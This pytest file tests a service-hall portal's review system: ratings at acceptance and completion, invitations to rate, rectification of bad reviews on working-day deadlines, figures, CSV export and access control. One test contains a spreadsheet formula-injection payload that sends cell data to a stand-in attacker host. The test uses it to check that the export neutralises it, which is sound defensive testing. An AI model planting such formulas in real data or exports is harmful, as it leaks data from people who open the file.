"""好差评: five grades at acceptance and completion, the invitation after three days, and every bad
review called back and rectified on a working-day deadline by the department that handled it."""
from datetime import date, datetime

import pytest
import time_machine
from django.core import mail
from django.utils import timezone

from portal.hall.actions import holiday_save
from portal.hall.models import Holiday
from portal.notifications.models import Notification, Reminder
from portal.roles import Role
from services import actions
from services.actions import (
    EVALUATION_INVITE,
    RECTIFICATION_DUE_SOON,
    RECTIFICATION_DUE_TODAY,
    RECTIFICATION_ESCALATED,
    RECTIFICATION_OVERDUE,
    evaluation_invitations_send,
    rectification_reminders_sweep,
)
from services.models import Booking, Evaluation, Rectification, RectificationEvent, Window, Zone
from services.selectors import evaluation_figures
from tests.factories import BookingFactory, DepartmentFactory, ServiceItemFactory, SlotFactory, UserFactory

pytestmark = pytest.mark.django_db


def at(*args) -> datetime:
    return timezone.make_aware(datetime(*args))


@pytest.fixture
def served(entrepreneur, hall_staff, department):
    """Monday 2026-03-02: the entrepreneur's booking for an item of the department, checked in at
    10:00, called to window 5 by the hall staff member and completed at 10:30."""
    item = ServiceItemFactory(code="food-licence", name="食品经营许可", department=department)
    window = Window.objects.create(number=5, zone=Zone.objects.create(letter="A", name="青年专区"))
    window.items.add(item)
    window.staff.add(hall_staff)
    with time_machine.travel(at(2026, 3, 2, 10, 0), tick=False):
        booking = BookingFactory(user=entrepreneur, slot=SlotFactory(bundle=None, item=item, starts_at=timezone.now()))
        actions.queue_check_in(booking=booking, by=hall_staff)
        actions.queue_call_next(window=window, by=hall_staff)
    booking.refresh_from_db()
    return booking


def complete(booking, by, moment=None):
    with time_machine.travel(moment or at(2026, 3, 2, 10, 30), tick=False):
        actions.booking_complete(booking=booking, by=by)
    booking.refresh_from_db()
    return booking


def rate(client, booking, stage, grade, comment=""):
    return client.post("/api/v1/evaluations/", {"booking": booking.reference, "stage": stage, "grade": grade,
                                               "comment": comment}, format="json")


# --- rating --------------------------------------------------------------------------------------
def test_it_rates_the_item_window_and_staff_at_acceptance_and_at_completion(api_as, served, entrepreneur,
                                                                            hall_staff, department):
    client = api_as(entrepreneur)
    assert rate(client, served, "completion", 5).status_code == 409  # not completed yet
    with time_machine.travel(at(2026, 3, 2, 10, 5), tick=False):
        response = rate(client, served, "acceptance", 4, "受理很快")
    assert response.status_code == 201
    assert response.json()["window"] == 5
    complete(served, hall_staff)
    assert rate(client, served, "completion", 5).status_code == 201
    evaluations = {e.stage: e for e in Evaluation.objects.all()}
    assert evaluations["acceptance"].grade == 4
    assert evaluations["acceptance"].staff == hall_staff
    assert evaluations["completion"].item.code == "food-licence"
    assert evaluations["completion"].department == department
    assert not Rectification.objects.exists()  # no bad review, nothing to rectify
    assert [row["stage"] for row in client.get("/api/v1/evaluations/").json()["results"]] == ["completion", "acceptance"]


def test_it_refuses_rating_twice_at_the_same_stage_and_changes_nothing(api_as, served, entrepreneur, hall_staff):
    complete(served, hall_staff)
    client = api_as(entrepreneur)
    assert rate(client, served, "completion", 2, "等太久").status_code == 201
    second = rate(client, served, "completion", 5, "改成满意")
    assert second.status_code == 409
    assert second.json()["code"] == "already_rated"
    evaluation = Evaluation.objects.get()
    assert (evaluation.grade, evaluation.comment) == (2, "等太久")
    assert Rectification.objects.count() == 1


def test_it_refuses_rating_someone_elses_booking(api_as, client_as, served, other_entrepreneur, hall_staff):
    complete(served, hall_staff)
    assert rate(api_as(other_entrepreneur), served, "completion", 1).status_code == 404
    assert rate(api_as(hall_staff), served, "completion", 1).status_code == 403
    page = client_as(other_entrepreneur).post(f"/bookings/{served.reference}/evaluate/",
                                              {"stage": "completion", "grade": 1})
    assert page.status_code == 404
    assert not Evaluation.objects.exists()
    assert not Rectification.objects.exists()


@pytest.mark.parametrize("body", [{"grade": 0}, {"grade": 6}, {"grade": "many"}, {"stage": "later"},
                                  {"comment": "长" * 1001}])
def test_it_refuses_bad_input_with_a_400(api_as, served, entrepreneur, hall_staff, body):
    complete(served, hall_staff)
    data = {"booking": served.reference, "stage": "completion", "grade": 3, **body}
    assert api_as(entrepreneur).post("/api/v1/evaluations/", data, format="json").status_code == 400
    assert not Evaluation.objects.exists()


def test_the_booking_page_offers_the_form_at_the_right_stage(client_as, served, entrepreneur, hall_staff):
    client = client_as(entrepreneur)
    page = client.get(f"/bookings/{served.reference}/").content.decode()
    assert 'data-stage="acceptance"' in page and 'name="grade"' in page
    with time_machine.travel(at(2026, 3, 2, 10, 10), tick=False):
        client.post(f"/bookings/{served.reference}/evaluate/", {"stage": "acceptance", "grade": "5"})
    page = client.get(f"/bookings/{served.reference}/").content.decode()
    assert 'id="evaluation-form"' not in page  # acceptance rated, completion not reached
    complete(served, hall_staff)
    page = client.get(f"/bookings/{served.reference}/").content.decode()
    assert 'id="evaluation-form" data-stage="completion"' in page
    refused = client.post(f"/bookings/{served.reference}/evaluate/",
                          {"stage": "completion", "grade": "9", "comment": "窗口很耐心"})
    assert refused.status_code == 400
    assert Evaluation.objects.count() == 1
    # Staff at the booking see no evaluation form: only the person rates.
    assert 'name="grade"' not in client_as(hall_staff).get(f"/bookings/{served.reference}/").content.decode()


def test_the_booking_page_links_to_a_blocker_prefilled_with_service_and_department(client_as, served,
                                                                                   entrepreneur, hall_staff):
    complete(served, hall_staff)
    client = client_as(entrepreneur)
    page = client.get(f"/bookings/{served.reference}/").content.decode()
    start = page.index('id="blocker-link" href="') + len('id="blocker-link" href="')
    link = page[start:page.index('"', start)].replace("&amp;", "&")
    assert link.startswith("/ideas/") or "kind=blocker" in link
    form = client.get(link).context["form"]
    assert form.initial["kind"] == "blocker"
    assert form.initial["category"] == "service"
    assert "食品经营许可" in form.initial["title"]
    assert "区市场监督管理局" in form.initial["content"] and served.reference in form.initial["content"]


# --- the invitation (智能邀评) --------------------------------------------------------------------
def test_it_invites_once_three_days_after_completion(served, hall_staff, entrepreneur,
                                                     django_capture_on_commit_callbacks):
    complete(served, hall_staff)
    mail.outbox.clear()

    def sweep(moment):
        with time_machine.travel(moment, tick=False), django_capture_on_commit_callbacks(execute=True):
            return evaluation_invitations_send()

    assert sweep(at(2026, 3, 5, 10, 29)) == 0  # not yet three days
    assert sweep(at(2026, 3, 5, 10, 31)) == 1
    assert sweep(at(2026, 3, 5, 11, 0)) == 0
    assert sweep(at(2026, 3, 9, 9, 0)) == 0  # never twice
    reminder = Reminder.objects.get(kind=EVALUATION_INVITE)
    assert list(reminder.recipients.all()) == [entrepreneur]
    assert Notification.objects.filter(user=entrepreneur, url__contains=served.reference).count() == 1
    assert [m.to for m in mail.outbox] == [[entrepreneur.email]]


def test_it_does_not_invite_who_has_rated(api_as, served, hall_staff, entrepreneur):
    complete(served, hall_staff)
    with time_machine.travel(at(2026, 3, 3, 9, 0), tick=False):
        assert rate(api_as(entrepreneur), served, "completion", 5).status_code == 201
    with time_machine.travel(at(2026, 3, 6, 9, 0), tick=False):
        assert evaluation_invitations_send() == 0
    assert not Reminder.objects.filter(kind=EVALUATION_INVITE).exists()


# --- rectification -------------------------------------------------------------------------------
@pytest.fixture
def bad_review(officer, served, hall_staff, entrepreneur):
    """Completed Monday 10:30, rated 不满意 at 11:00: the rectification for the item's department."""
    complete(served, hall_staff)
    with time_machine.travel(at(2026, 3, 2, 11, 0), tick=False):
        evaluation = actions.evaluation_create(booking=served, stage="completion", grade=2,
                                               comment="补充材料要求没讲清楚", by=entrepreneur)
    return evaluation.rectification


def test_a_bad_review_opens_a_rectification_due_in_15_working_days(bad_review, department, officer):
    assert bad_review.department == department  # 谁办理、谁负责
    assert timezone.localdate(bad_review.due_at) == date(2026, 3, 23)  # 15 working days from Monday 2 March
    assert bad_review.status == "open"
    assert Notification.objects.filter(user=officer, url=f"/rectifications/{bad_review.pk}/").exists()


def test_it_walks_callback_outcome_and_the_persons_acceptance(api_as, bad_review, officer, entrepreneur):
    url = f"/api/v1/rectifications/{bad_review.pk}/"
    office = api_as(officer)
    assert office.post(url + "outcome/", {"outcome": "rectified", "text": "x"}, format="json").status_code == 409
    response = office.post(url + "callback/", {"contacted": True, "note": "电话回访：窗口未出具书面清单"}, format="json")
    assert response.status_code == 200 and response.json()["status"] == "called_back"
    assert office.post(url + "callback/", {"contacted": False, "note": "again"}, format="json").status_code == 409
    response = office.post(url + "outcome/", {"outcome": "rectified", "text": "补正材料一次性书面告知"}, format="json")
    assert response.json()["status"] == "answered"
    assert Notification.objects.filter(user=entrepreneur, body="补正材料一次性书面告知").exists()
    assert api_as(officer).post(url + "accept/", {}, format="json").status_code == 403
    assert api_as(entrepreneur).post(url + "accept/", {"note": "认可"}, format="json").json()["status"] == "accepted"
    assert api_as(entrepreneur).post(url + "reject/", {}, format="json").status_code == 409
    events = list(RectificationEvent.objects.filter(rectification=bad_review).values_list("to_status", flat=True))
    assert events == ["open", "called_back", "answered", "accepted"]


@pytest.mark.parametrize("text", ["", "   "])
def test_an_outcome_without_text_is_refused_and_changes_nothing(api_as, client_as, bad_review, officer, text):
    actions.rectification_callback(rectification=bad_review, contacted=True, note="已回访", by=officer)
    url = f"/api/v1/rectifications/{bad_review.pk}/outcome/"
    assert api_as(officer).post(url, {"outcome": "explained", "text": text}, format="json").status_code == 400
    assert api_as(officer).post(url, {"outcome": "explained"}, format="json").status_code == 400
    page = client_as(officer).post(f"/rectifications/{bad_review.pk}/outcome/", {"outcome": "explained", "text": text})
    assert page.status_code == 400
    bad_review.refresh_from_db()
    assert (bad_review.status, bad_review.outcome, bad_review.outcome_text) == ("called_back", "", "")


def test_another_departments_officer_sees_nothing_and_changes_nothing(api_as, client_as, bad_review):
    other = UserFactory(roles=[Role.DEPARTMENT_OFFICER], is_staff=True)
    DepartmentFactory(code="tax").officers.add(other)
    url = f"/api/v1/rectifications/{bad_review.pk}/"
    client = api_as(other)
    assert client.get(url).status_code == 404
    assert client.post(url + "callback/", {"contacted": True, "note": "x"}, format="json").status_code == 404
    assert client.get("/api/v1/rectifications/").json()["count"] == 0
    pages = client_as(other)
    assert pages.get(f"/rectifications/{bad_review.pk}/").status_code == 404
    assert pages.post(f"/rectifications/{bad_review.pk}/callback/", {"contacted": "yes", "note": "x"}).status_code == 404
    assert f"/rectifications/{bad_review.pk}/" not in pages.get("/rectifications/").content.decode()
    bad_review.refresh_from_db()
    assert bad_review.status == "open" and bad_review.callback_note == ""


def test_the_department_works_through_its_pages(client_as, bad_review, officer, entrepreneur):
    pages = client_as(officer)
    assert f"/rectifications/{bad_review.pk}/" in pages.get("/rectifications/").content.decode()
    assert "/rectifications/" in pages.get("/me/").content.decode()
    pages.post(f"/rectifications/{bad_review.pk}/callback/", {"contacted": "yes", "note": "已回访"})
    pages.post(f"/rectifications/{bad_review.pk}/outcome/", {"outcome": "not_upheld", "text": "经核实按规定办理"})
    person = client_as(entrepreneur)
    booking_page = person.get(f"/bookings/{bad_review.evaluation.booking.reference}/").content.decode()
    assert f'href="/rectifications/{bad_review.pk}/"' in booking_page
    assert person.post(f"/rectifications/{bad_review.pk}/respond/", {"accepted": "no", "note": "仍有异议"}).status_code == 302
    bad_review.refresh_from_db()
    assert (bad_review.status, bad_review.response_note) == ("not_accepted", "仍有异议")


def test_the_deadline_reminds_the_department_and_escalates_to_the_committee_once(
        bad_review, officer, reviewer, django_capture_on_commit_callbacks):
    def sweep(moment):
        with time_machine.travel(moment, tick=False), django_capture_on_commit_callbacks(execute=True):
            return rectification_reminders_sweep()

    def kinds():
        return sorted(Reminder.objects.filter(subject_id=bad_review.pk, kind__startswith="rectification")
                      .values_list("kind", flat=True))

    mail.outbox.clear()
    assert sweep(at(2026, 3, 19, 12, 0)) == 0
    assert sweep(at(2026, 3, 20, 9, 0)) == 1  # one working day before (Friday; the deadline is Monday)
    assert sweep(at(2026, 3, 20, 9, 5)) == 0
    assert sweep(at(2026, 3, 23, 9, 0)) == 1  # on the day
    assert sweep(at(2026, 3, 24, 0, 5)) == 1  # overdue
    assert sweep(at(2026, 3, 25, 12, 0)) == 0  # grace: two working days
    assert sweep(at(2026, 3, 26, 0, 5)) == 1  # escalated
    for _ in range(2):
        assert sweep(at(2026, 4, 10, 9, 0)) == 0  # exactly once
    assert kinds() == sorted([RECTIFICATION_DUE_SOON, RECTIFICATION_DUE_TODAY, RECTIFICATION_OVERDUE,
                              RECTIFICATION_ESCALATED])
    escalation = Reminder.objects.get(subject_id=bad_review.pk, kind=RECTIFICATION_ESCALATED)
    assert set(escalation.recipients.all()) == {reviewer, officer}
    assert [m.to for m in mail.outbox].count([reviewer.email]) == 1


def test_an_answered_rectification_is_not_reminded(bad_review, officer):
    actions.rectification_callback(rectification=bad_review, contacted=False, note="电话未接通", by=officer)
    actions.rectification_answer(rectification=bad_review, outcome="explained", text="无法律依据调整", by=officer)
    with time_machine.travel(at(2026, 3, 30, 9, 0), tick=False):
        assert rectification_reminders_sweep() == 0


def test_a_new_day_off_moves_the_deadline_and_its_reminders(bad_review, hall_staff, officer):
    with time_machine.travel(at(2026, 3, 3, 9, 0), tick=False):
        holiday_save(holiday=Holiday(date=date(2026, 3, 10), kind=Holiday.Kind.DAY_OFF, name="临时闭厅"), by=hall_staff)
    bad_review.refresh_from_db()
    assert timezone.localdate(bad_review.due_at) == date(2026, 3, 24)
    with time_machine.travel(at(2026, 3, 23, 9, 0), tick=False):
        rectification_reminders_sweep()
    assert list(Reminder.objects.filter(subject_id=bad_review.pk).values_list("kind", flat=True)) == [
        RECTIFICATION_DUE_SOON]


# --- figures ---------------------------------------------------------------------------------------
def test_the_figures_come_from_the_records(bad_review, officer, hall_staff, department, english):
    # Three more completed bookings of the same item: 非常满意, 基本满意, 非常不满意.
    item = bad_review.evaluation.item
    for n, grade in enumerate((5, 3, 1)):
        slot = SlotFactory(bundle=None, item=item, starts_at=at(2026, 3, 2, 14 + n, 0))
        booking = BookingFactory(status=Booking.Status.COMPLETED, slot=slot)
        with time_machine.travel(at(2026, 3, 3, 9, 0), tick=False):
            actions.evaluation_create(booking=booking, stage="completion", grade=grade, by=booking.user)
    # One bad review called back and answered on time; the other untouched.
    with time_machine.travel(at(2026, 3, 4, 9, 0), tick=False):
        actions.rectification_callback(rectification=bad_review, contacted=True, note="已回访", by=officer)
        actions.rectification_answer(rectification=bad_review, outcome="rectified", text="增开窗口", by=officer)
    overall = evaluation_figures()[0]
    assert (overall["evaluations"], overall["bad"], overall["rectifications"]) == (4, 2, 2)
    assert (overall["satisfaction"], overall["very_satisfied_share"]) == (50.0, 25.0)
    assert (overall["callback_rate"], overall["rectification_rate"], overall["on_time_rate"]) == (50.0, 50.0, 100.0)
    by_department = evaluation_figures(by="department")
    assert [(row["label"], row["evaluations"]) for row in by_department] == [(department.name, 4)]
    by_window = {row["label"]: row["evaluations"] for row in evaluation_figures(by="window")}
    assert by_window == {"Window 5": 1, "": 3}
    assert [row["label"] for row in evaluation_figures(by="month")] == ["2026-03"]
    from services.dashboard import evaluation_figures as dashboard_figures

    figures = {figure["label"]: figure for figure in dashboard_figures()}
    assert figures["Bad reviews called back"]["value"] == 50.0
    assert figures["Bad reviews"]["value"] == 2
    assert all(figure["description"] for figure in figures.values())


def test_the_csv_export_is_for_hall_staff(client_as, bad_review, entrepreneur, hall_staff):
    assert client_as(entrepreneur).get("/evaluations/figures.csv").status_code == 403
    response = client_as(hall_staff).get("/evaluations/figures.csv?by=department")
    assert response.status_code == 200
    rows = response.content.decode("utf-8-sig").splitlines()
    assert len(rows) == 2 and "区市场监督管理局" in rows[1]
    assert client_as(hall_staff).get("/evaluations/figures.csv?by=nonsense").status_code == 400
    assert len(client_as(hall_staff).get("/evaluations/figures.csv").content.decode("utf-8-sig").splitlines()) > 2


def test_the_demo_has_evaluations_and_a_bad_review_in_rectification():
    from django.core.management import call_command

    call_command("seed_demo", stdout=None)
    assert Evaluation.objects.count() >= 12
    rectification = Rectification.objects.get()
    assert rectification.status == "called_back"  # called back, the outcome still owed
    assert rectification.department.officers.filter(username="officer").exists()


def test_officers_act_in_the_admin_on_their_departments_rectifications_only(client_as, bad_review, officer):
    other = UserFactory(roles=[Role.DEPARTMENT_OFFICER], is_staff=True)
    DepartmentFactory(code="tax").officers.add(other)
    url = "/admin/services/rectification/"
    assert f"/rectification/{bad_review.pk}/change/" not in client_as(other).get(url).content.decode()
    client = client_as(officer)
    assert f"/rectification/{bad_review.pk}/change/" in client.get(url).content.decode()
    selected = {"_selected_action": [bad_review.pk], "index": 0}
    client.post(url, {**selected, "action": "give_outcome", "outcome": "rectified", "text": "x"})
    bad_review.refresh_from_db()
    assert bad_review.status == "open"  # no outcome before the callback
    client.post(url, {**selected, "action": "callback_reached", "text": "已电话回访"})
    client.post(url, {**selected, "action": "give_outcome", "outcome": "explained", "text": ""})
    bad_review.refresh_from_db()
    assert (bad_review.status, bad_review.callback_note) == ("called_back", "已电话回访")  # no text, no outcome
    client.post(url, {**selected, "action": "give_outcome", "outcome": "explained", "text": "无法律依据"})
    bad_review.refresh_from_db()
    assert (bad_review.status, bad_review.outcome, bad_review.outcome_text) == ("answered", "explained", "无法律依据")


def test_the_csv_export_neutralises_names_a_spreadsheet_would_run(client_as, hall_staff):
    import csv
    import io

    attack = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    Evaluation.objects.create(booking=BookingFactory(status="completed"), stage="completion", grade=5,
                              staff=UserFactory(display_name=attack))
    response = client_as(hall_staff).get("/evaluations/figures.csv?by=staff")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + attack
    assert rows[1][2:4] == ["1", "100.0"]  # numbers stay numbers


def test_a_refused_evaluation_keeps_the_comment_and_shows_the_error_beside_the_grades(client_as, served, entrepreneur):
    client = client_as(entrepreneur)
    with time_machine.travel(at(2026, 3, 2, 10, 10), tick=False):
        response = client.post(f"/bookings/{served.reference}/evaluate/",
                               {"stage": "acceptance", "grade": "", "comment": "窗口很耐心"})
    assert response.status_code == 400
    body = response.content.decode()
    # The booking page itself, the comment as typed, the error right after the grades it is about.
    assert 'id="evaluation-form" data-stage="acceptance"' in body and "窗口很耐心" in body
    assert 'aria-describedby="id_grade_error"' in body
    grades = body.index('<fieldset class="grades')
    assert grades < body.index('id="id_grade_error"') < body.index('id="id_comment"')
    assert not Evaluation.objects.exists()


def test_a_refused_callback_keeps_what_the_officer_typed_beside_the_error(client_as, bad_review, officer):
    response = client_as(officer).post(f"/rectifications/{bad_review.pk}/callback/",
                                       {"contacted": "", "note": "下午再打一次"})
    assert response.status_code == 400
    body = response.content.decode()
    assert "下午再打一次" in body and 'aria-describedby="id_contacted_error"' in body
    form = body.index('id="callback-form"')
    assert form < body.index('id="id_contacted_error"') < body.index('id="id_contacted_at"')
    bad_review.refresh_from_db()
    assert bad_review.status == "open" and bad_review.callback_note == ""


def test_a_refused_outcome_and_answer_keep_what_was_typed(client_as, bad_review, officer, entrepreneur):
    actions.rectification_callback(rectification=bad_review, contacted=True, note="已回访", by=officer)
    response = client_as(officer).post(f"/rectifications/{bad_review.pk}/outcome/", {"outcome": "", "text": "已整改"})
    assert response.status_code == 400
    body = response.content.decode()
    assert "已整改" in body
    assert body.index('id="outcome-form"') < body.index('id="id_outcome_error"') < body.index('id="id_text"')
    actions.rectification_answer(rectification=bad_review, outcome="explained", text="已解释", by=officer)
    response = client_as(entrepreneur).post(f"/rectifications/{bad_review.pk}/respond/",
                                            {"accepted": "", "note": "还要再想想"})
    assert response.status_code == 400
    body = response.content.decode()
    assert "还要再想想" in body
    assert body.index('id="response-form"') < body.index('id="id_accepted_error"') < body.index('id="id_note"')
    bad_review.refresh_from_db()
    assert bad_review.status == "answered" and bad_review.response_note == ""
